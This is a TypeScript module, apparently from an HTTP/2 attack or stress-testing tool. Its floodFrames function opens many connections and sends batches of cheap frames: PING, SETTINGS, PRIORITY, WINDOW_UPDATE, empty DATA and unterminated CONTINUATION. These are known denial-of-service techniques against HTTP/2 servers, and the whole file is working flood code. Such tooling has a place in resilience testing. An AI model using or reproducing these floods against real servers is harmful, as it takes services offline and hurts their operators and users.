import {
  continuation,
  data,
  headers,
  ping,
  priority,
  SETTING,
  settings,
  TYPE,
  windowUpdate,
} from '../../raw-http/http2-frames.ts'
import type { RawHttp2 } from '../../raw-http/raw-http2.ts'
import type { AttackReport, AttackTarget } from '../attack.ts'
import { ConnectionGroup } from '../connection-group.ts'
import { type FloodOptions, flood } from './flood.ts'

const BATCH = 200

export type FrameFlood = 'ping' | 'settings' | 'priority' | 'window-update' | 'empty-data' | 'continuation'

/** Floods the server with frames that cost their sender almost nothing. */
export async function floodFrames(
  target: AttackTarget,
  { kind, ...options }: FloodOptions & { kind: FrameFlood },
): Promise<AttackReport> {
  const group = new ConnectionGroup(target, options.signal)
  const bytes = Buffer.concat(Array.from({ length: BATCH }, (_, index) => frameOf(kind, index)))
  const count = await flood(group, options, {
    open: async () => {
      const client = await group.openHttp2WithoutWaiting({ polite: false })
      await client.socket.send(openingFrames(client, target, kind))
      return client
    },
    batch: () => ({ bytes, units: BATCH }),
  })
  return { ...count, goaways: group.countFrames(TYPE.goaway), received: group.received }
}

/** Some floods need an open stream, which is stream 1. */
function openingFrames(client: RawHttp2, target: AttackTarget, kind: FrameFlood): Buffer {
  const block = client.block(target.manifest)
  if (kind === 'empty-data') return headers(1, block, { endStream: false })
  if (kind === 'continuation') return headers(1, block, { endHeaders: false })
  return Buffer.alloc(0)
}

function frameOf(kind: FrameFlood, index: number): Buffer {
  switch (kind) {
    case 'ping':
      return ping()
    case 'settings':
      return settings({ [SETTING.initialWindowSize]: index })
    case 'priority':
      return priority(2 * index + 1, 2 * index + 3, index % 256)
    case 'window-update':
      return windowUpdate(0, 1)
    case 'empty-data':
      return data(1, Buffer.alloc(0), { endStream: false })
    case 'continuation':
      return continuation(1, Buffer.alloc(0), { endHeaders: false })
  }
}
